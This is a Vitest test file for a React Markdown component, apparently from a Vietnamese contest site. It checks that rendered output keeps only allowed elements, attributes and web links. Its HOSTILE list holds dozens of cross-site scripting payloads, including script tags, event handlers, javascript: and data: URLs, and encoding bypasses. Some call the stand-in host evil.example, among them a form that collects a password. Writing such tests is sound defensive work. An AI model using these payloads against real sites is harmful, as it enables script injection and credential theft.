import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { asMarkdown, MARKDOWN_ELEMENTS } from '../../../shared/kernel/markdown.js';
import { Markdown } from './markdown.js';

const html = (text: string, sections = false) =>
  renderToStaticMarkup(<Markdown text={text} sections={sections} />);

/** What people have tried elsewhere, in HTML, in links, in pictures, and across the borders of both. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=https://example.org onclick=alert(1)>x</a>',
  '<form action=https://evil.example><input name=password>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<base href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<object data=javascript:alert(1)><embed src=javascript:alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<p style="position:fixed;inset:0">x</p>',
  '<<script>alert(1)//<</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)-->',
  '![x](https://example.org/seen.png)',
  '![x](javascript:alert(1))',
  '![x][1]\n\n[1]: https://example.org/seen.png',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](&#x6A&#x61&#x76&#x61script:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example)',
  '[x](https://example.org"onmouseover="alert(1))',
  '[x](https://example.org \'" onmouseover="alert(1)\')',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '`<script>alert(1)</script>`',
  '    <script>alert(1)</script>',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '[<img src=x onerror=alert(1)>](https://example.org)',
  '# <script>alert(1)</script>',
  '> [x](javascript:alert(1))',
  '\u0000<script>alert(1)</script>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
];

const WEB = /^(https?|mailto|tel):/;

/** The elements of a page and their attributes, as a browser would see them: text in it is escaped. */
function elementsIn(page: string): { name: string; attributes: Map<string, string> }[] {
  return [...page.matchAll(/<([^\s/>]+)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/g)]
    .filter(([, name]) => name !== undefined && !name.startsWith('/'))
    .map(([, name = '', rest = '']) => ({
      name,
      attributes: new Map(
        [...rest.matchAll(/([^\s=]+)="([^"]*)"/g)].map(([, key = '', value = '']) => [key, value]),
      ),
    }));
}

describe.each([
  ['an answer', false],
  ['a part of a page', true],
] as const)('%s', (_what, sections) => {
  it.each(HOSTILE)('becomes nothing but words and harmless links: %j', (text) => {
    for (const page of [html(text, sections), html(asMarkdown(text), sections)]) {
      for (const { name, attributes } of elementsIn(page)) {
        expect(MARKDOWN_ELEMENTS).toContain(name);
        for (const key of attributes.keys())
          expect(['href', 'rel', 'target', 'class', 'start']).toContain(key);
        const address = attributes.get('href');
        if (address !== undefined) expect(address).toMatch(WEB);
      }
    }
  });
});

it('the corpus would be noticed if it got through', () => {
  const names = elementsIn('<p><img src="x" onerror="alert(1)"/></p>').map(({ name }) => name);
  expect(names).toEqual(['p', 'img']);
});

it.each(['[x](javascript:alert(1))', '[x](data:text/html,<script>)', '[x](vbscript:x)', '[x](/contests)'])(
  'leads nowhere with %s and keeps its word',
  (text) => {
    expect(html(text)).toBe('<p>x</p>');
  },
);

it('opens links apart, without following or being opened by them', () => {
  expect(html('[Luật](https://example.org/a)')).toBe(
    '<p><a href="https://example.org/a" rel="noopener noreferrer nofollow" target="_blank">Luật</a></p>',
  );
});

it('keeps headings of an answer out of the outline of the page', () => {
  expect(html('# To')).toBe('<p><strong>To</strong></p>');
});

it('gives a text of its own headings below the title of its part', () => {
  expect(html('# Thể lệ\n\n### Giải thưởng', true)).toBe('<h3>Thể lệ</h3>\n<h4>Giải thưởng</h4>');
});

it('shows what looks like HTML as what was written, in rules', () => {
  expect(html('Gửi về <email> trước **20/11**', true)).toBe(
    '<p>Gửi về &lt;email&gt; trước <strong>20/11</strong></p>',
  );
});
